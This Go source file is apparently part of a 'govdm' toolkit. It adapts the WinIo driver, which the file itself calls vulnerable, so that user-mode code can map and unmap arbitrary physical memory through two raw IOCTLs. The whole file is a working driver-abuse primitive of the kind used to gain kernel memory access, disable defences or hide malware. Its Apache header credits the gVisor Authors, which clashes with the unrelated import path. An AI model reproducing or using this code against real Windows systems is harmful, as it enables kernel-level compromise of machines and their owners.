// Copyright 2018 The gVisor Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

//go:build windows

// Package winio adapts the WinIo vulnerable driver (device node
// \\.\WinIo) to the vdm.Driver interface. Unlike rtcore64, WinIo shares a
// single struct between the IOCTL's input and output buffers, and a
// mapping carries two kernel object handles that must be returned
// verbatim on unmap.
package winio

import (
	"sync"
	"unsafe"

	"github.com/pkg/errors"
	"golang.org/x/sys/windows"

	"github.com/a2x/govdm/pkg/vdm"
)

const devicePath = `\\.\WinIo`

const (
	ioctlMapPhysicalMemory   = 0x80102040
	ioctlUnmapPhysicalMemory = 0x80102044
)

// mappingBuffer is passed as both the input and output buffer of the map
// ioctl: the driver reads Size/PhysAddr and writes SectionHandle/VirtAddr/
// ObjHandle back into the same struct. On unmap only the handle and
// address fields are populated; Size and PhysAddr are left zeroed.
type mappingBuffer struct {
	Size          uint64
	PhysAddr      uint64
	SectionHandle windows.Handle
	VirtAddr      uint64
	ObjHandle     windows.Handle
}

// cookie carries the kernel object handles WinIo requires back on unmap.
// The cache and translation table never inspect it (I4).
type cookie struct {
	sectionHandle windows.Handle
	objHandle     windows.Handle
}

// Driver adapts WinIo to vdm.Driver. As with rtcore64, round trips are
// serialized behind mu.
type Driver struct {
	mu     sync.Mutex
	handle windows.Handle
}

// Open opens a handle to the WinIo device node.
func Open() (*Driver, error) {
	path, err := windows.UTF16PtrFromString(devicePath)
	if err != nil {
		return nil, &vdm.DeviceOpenError{Path: devicePath, Err: err}
	}

	handle, err := windows.CreateFile(
		path,
		windows.GENERIC_READ|windows.GENERIC_WRITE,
		0,
		nil,
		windows.OPEN_EXISTING,
		windows.FILE_ATTRIBUTE_NORMAL,
		0,
	)
	if err != nil {
		return nil, &vdm.DeviceOpenError{Path: devicePath, Err: err}
	}

	return &Driver{handle: handle}, nil
}

// Close closes the device handle.
func (d *Driver) Close() error {
	if d.handle == windows.InvalidHandle || d.handle == 0 {
		return nil
	}
	return windows.CloseHandle(d.handle)
}

// Map implements vdm.Driver.
func (d *Driver) Map(addr uint64, size uint64) (vdm.Mapping, error) {
	d.mu.Lock()
	defer d.mu.Unlock()

	buf := mappingBuffer{Size: size, PhysAddr: addr}
	var returned uint32

	err := windows.DeviceIoControl(
		d.handle,
		ioctlMapPhysicalMemory,
		(*byte)(unsafe.Pointer(&buf)),
		uint32(unsafe.Sizeof(buf)),
		(*byte)(unsafe.Pointer(&buf)),
		uint32(unsafe.Sizeof(buf)),
		&returned,
		nil,
	)
	if err != nil {
		return vdm.Mapping{}, &vdm.MapFailedError{PhysAddr: addr, Err: errors.Wrap(err, "WinIo MapPhysicalMemory ioctl")}
	}

	return vdm.Mapping{
		PhysAddr: addr,
		Size:     size,
		VirtAddr: uintptr(buf.VirtAddr),
		Cookie: cookie{
			sectionHandle: buf.SectionHandle,
			objHandle:     buf.ObjHandle,
		},
	}, nil
}

// Unmap implements vdm.Driver. WinIo identifies the mapping to tear down
// by its section and object handles, not by virtual address; Size and
// PhysAddr are left zeroed in the request.
func (d *Driver) Unmap(m vdm.Mapping) error {
	d.mu.Lock()
	defer d.mu.Unlock()

	c, ok := m.Cookie.(cookie)
	if !ok {
		return &vdm.UnmapFailedError{VirtAddr: uint64(m.VirtAddr), Err: errors.New("WinIo mapping is missing its handle cookie")}
	}

	buf := mappingBuffer{
		SectionHandle: c.sectionHandle,
		VirtAddr:      uint64(m.VirtAddr),
		ObjHandle:     c.objHandle,
	}

	err := windows.DeviceIoControl(
		d.handle,
		ioctlUnmapPhysicalMemory,
		(*byte)(unsafe.Pointer(&buf)),
		uint32(unsafe.Sizeof(buf)),
		nil,
		0,
		nil,
		nil,
	)
	if err != nil {
		return &vdm.UnmapFailedError{VirtAddr: uint64(m.VirtAddr), Err: errors.Wrap(err, "WinIo UnmapPhysicalMemory ioctl")}
	}
	return nil
}
